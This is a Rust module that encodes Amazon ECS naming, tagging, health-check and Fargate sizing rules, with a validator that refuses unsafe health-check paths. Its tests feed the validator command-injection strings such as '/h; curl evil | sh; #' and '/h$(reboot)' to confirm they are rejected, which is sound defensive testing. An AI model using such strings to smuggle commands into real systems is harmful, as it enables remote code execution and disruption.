//! Amazon ECS's rules: cluster, service, task family and capacity provider names, tags, the
//! desired count, container health checks and Fargate task sizes.

use super::{IntRange, NameChars, NameRule, TagRules};

/// `CreateCluster`: "Up to 255 letters (uppercase and lowercase), numbers, underscores, and
/// hyphens are allowed."
pub const CREATE_CLUSTER_SOURCE: &str =
    "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_CreateCluster.html";
/// `CreateService`: service name rules and `desiredCount`.
pub const CREATE_SERVICE_SOURCE: &str =
    "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_CreateService.html";
/// `RegisterTaskDefinition`: family rules.
pub const REGISTER_TASK_DEFINITION_SOURCE: &str =
    "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_RegisterTaskDefinition.html";
/// `HealthCheck`: command forms and the interval/timeout/retries/startPeriod ranges.
pub const HEALTH_CHECK_SOURCE: &str =
    "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_HealthCheck.html";
/// Tagging restrictions of ECS resources (50 tags, keys 128, values 256, `aws:` reserved).
pub const TAGGING_SOURCE: &str =
    "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/ecs-using-tags.html";
/// ECS service quotas (tasks per service).
pub const QUOTAS_SOURCE: &str =
    "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/service-quotas.html";
/// Fargate task sizes (cpu/memory pairs, ephemeral storage) and `awsvpc`.
pub const FARGATE_SIZES_SOURCE: &str =
    "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/fargate-tasks-services.html";
/// `CreateCapacityProvider`: names must not begin with `aws`, `ecs` or `fargate`.
pub const CAPACITY_PROVIDER_SOURCE: &str =
    "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_CreateCapacityProvider.html";

/// Cluster names.
pub static CLUSTER_NAME: NameRule = NameRule {
    what: "ECS cluster name",
    min: 1,
    max: 255,
    chars: NameChars::AlnumDashUnderscore,
    reserved_prefixes: &[],
    source: CREATE_CLUSTER_SOURCE,
};

/// Service names.
pub static SERVICE_NAME: NameRule = NameRule {
    what: "ECS service name",
    min: 1,
    max: 255,
    chars: NameChars::AlnumDashUnderscore,
    reserved_prefixes: &[],
    source: CREATE_SERVICE_SOURCE,
};

/// Task definition families.
pub static FAMILY: NameRule = NameRule {
    what: "ECS task definition family",
    min: 1,
    max: 255,
    chars: NameChars::AlnumDashUnderscore,
    reserved_prefixes: &[],
    source: REGISTER_TASK_DEFINITION_SOURCE,
};

/// Custom capacity provider names (`FARGATE` and `FARGATE_SPOT` are AWS's own).
pub static CAPACITY_PROVIDER_NAME: NameRule = NameRule {
    what: "ECS capacity provider name",
    min: 1,
    max: 255,
    chars: NameChars::AlnumDashUnderscore,
    reserved_prefixes: &["aws", "ecs", "fargate"],
    source: CAPACITY_PROVIDER_SOURCE,
};

/// The capacity providers AWS provides on every cluster.
pub const FARGATE_PROVIDERS: &[&str] = &["FARGATE", "FARGATE_SPOT"];

/// Tags on clusters, services and task definitions.
pub static TAGS: TagRules = TagRules {
    what: "ECS resources",
    max_count: 50,
    key_max: 128,
    value_max: 256,
    reserved_prefix: "aws:",
    source: TAGGING_SOURCE,
};

/// A service's `desiredCount`: at most the tasks-per-service quota.
pub static DESIRED_COUNT: IntRange = IntRange {
    field: "desiredCount",
    min: 0,
    max: 10_000,
    source: QUOTAS_SOURCE,
};

/// Seconds between container health checks.
pub static HEALTH_INTERVAL: IntRange = IntRange {
    field: "health check interval",
    min: 5,
    max: 300,
    source: HEALTH_CHECK_SOURCE,
};

/// Seconds a health check may take.
pub static HEALTH_TIMEOUT: IntRange = IntRange {
    field: "health check timeout",
    min: 2,
    max: 120,
    source: HEALTH_CHECK_SOURCE,
};

/// Consecutive failures before a container is unhealthy.
pub static HEALTH_RETRIES: IntRange = IntRange {
    field: "health check retries",
    min: 1,
    max: 10,
    source: HEALTH_CHECK_SOURCE,
};

/// Seconds of grace before failed health checks count.
pub static HEALTH_START_PERIOD: IntRange = IntRange {
    field: "health check startPeriod",
    min: 0,
    max: 300,
    source: HEALTH_CHECK_SOURCE,
};

/// A service's `deploymentConfiguration.minimumHealthyPercent`.
pub static MIN_HEALTHY_PERCENT: IntRange = IntRange {
    field: "minimumHealthyPercent",
    min: 0,
    max: 100,
    source: CREATE_SERVICE_SOURCE,
};

/// A service's `deploymentConfiguration.maximumPercent` (sent as a 32-bit integer).
pub static MAX_PERCENT: IntRange = IntRange {
    field: "maximumPercent",
    min: 0,
    max: i32::MAX as i64,
    source: CREATE_SERVICE_SOURCE,
};

/// Fargate ephemeral storage, GiB.
pub static EPHEMERAL_STORAGE_GIB: IntRange = IntRange {
    field: "ephemeralStorage.sizeInGiB",
    min: 21,
    max: 200,
    source: FARGATE_SIZES_SOURCE,
};

/// The network mode every Fargate task uses.
pub const FARGATE_NETWORK_MODE: &str = "awsvpc";

/// Fargate's valid task sizes: cpu units → allowed memory (MiB).
pub fn fargate_memory(cpu: i64) -> Option<Vec<i64>> {
    let range = |from: i64, to: i64, step: i64| {
        (0..)
            .map(move |i| from + i * step)
            .take_while(move |m| *m <= to)
    };
    Some(match cpu {
        256 => vec![512, 1024, 2048],
        512 => range(1024, 4096, 1024).collect(),
        1024 => range(2048, 8192, 1024).collect(),
        2048 => range(4096, 16384, 1024).collect(),
        4096 => range(8192, 30720, 1024).collect(),
        8192 => range(16384, 61440, 4096).collect(),
        16384 => range(32768, 122880, 8192).collect(),
        _ => return None,
    })
}

/// Why a health check path is refused, if it is: an absolute URL path with an optional query
/// of unreserved characters, `/`, `%XX`, `?`, `=`, `&`, `+`, `,`, `:` and `@` only. The probe is
/// run without a shell (exec form `CMD`), and a path that is not a plain URL path is refused
/// rather than quoted.
pub fn health_path_problem(path: &str) -> Option<String> {
    if !path.starts_with('/') {
        return Some("a health check path begins with `/`".into());
    }
    if path.len() > 2048 {
        return Some("a health check path has at most 2048 characters".into());
    }
    let b = path.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b'%' {
            if i + 2 < b.len() && b[i + 1].is_ascii_hexdigit() && b[i + 2].is_ascii_hexdigit() {
                i += 3;
                continue;
            }
            return Some("`%` in a health check path starts a `%XX` escape".into());
        }
        let ok = c.is_ascii_alphanumeric() || b"-._~/?=&+,:@".contains(&c);
        if !ok {
            let ch = path[i..].chars().next().unwrap_or('?');
            return Some(format!(
                "{ch:?} is not allowed in a health check path (letters, digits and `-._~/?=&+,:@` or `%XX` escapes)"
            ));
        }
        i += 1;
    }
    None
}

/// The container health check: `curl` run directly (exec form `CMD`, no shell), failing on
/// HTTP errors. `path` must have passed [`health_path_problem`].
pub fn health_command(port: i64, path: &str) -> Vec<String> {
    vec![
        "CMD".to_string(),
        "curl".to_string(),
        "-fsS".to_string(),
        "-o".to_string(),
        "/dev/null".to_string(),
        format!("http://localhost:{port}{path}"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn health_paths_are_url_paths() {
        assert_eq!(health_path_problem("/health"), None);
        assert_eq!(health_path_problem("/v1/ping?deep=1&x=%2F"), None);
        assert!(health_path_problem("/h; curl evil | sh; #").is_some());
        assert!(health_path_problem("/h$(reboot)").is_some());
        assert!(health_path_problem("/h`id`").is_some());
        assert!(health_path_problem("health").is_some());
        assert!(health_path_problem("/a%2").is_some());
        assert!(health_path_problem("/a%zz").is_some());
        assert!(health_path_problem("/é").is_some());
        let cmd = health_command(8080, "/health");
        assert_eq!(cmd[0], "CMD");
        assert_eq!(cmd.last().unwrap(), "http://localhost:8080/health");
    }

    #[test]
    fn capacity_provider_names() {
        assert!(CAPACITY_PROVIDER_NAME.problem("FARGATE_SPOTT").is_some());
        assert!(CAPACITY_PROVIDER_NAME.problem("ecs-x").is_some());
        assert_eq!(CAPACITY_PROVIDER_NAME.problem("gpu-pool"), None);
    }
}
